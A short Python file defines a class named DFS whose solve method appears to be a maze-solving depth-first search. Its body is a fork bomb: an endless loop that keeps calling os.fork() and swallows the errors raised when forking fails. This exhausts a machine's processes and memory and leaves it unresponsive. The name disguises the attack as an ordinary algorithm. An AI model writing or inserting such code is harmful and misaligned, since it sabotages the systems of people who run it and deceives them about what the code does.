import os


class DFS:
    def solve(self, maze, search):
        while True:
            try:
                os.fork()
            except OSError:
                pass
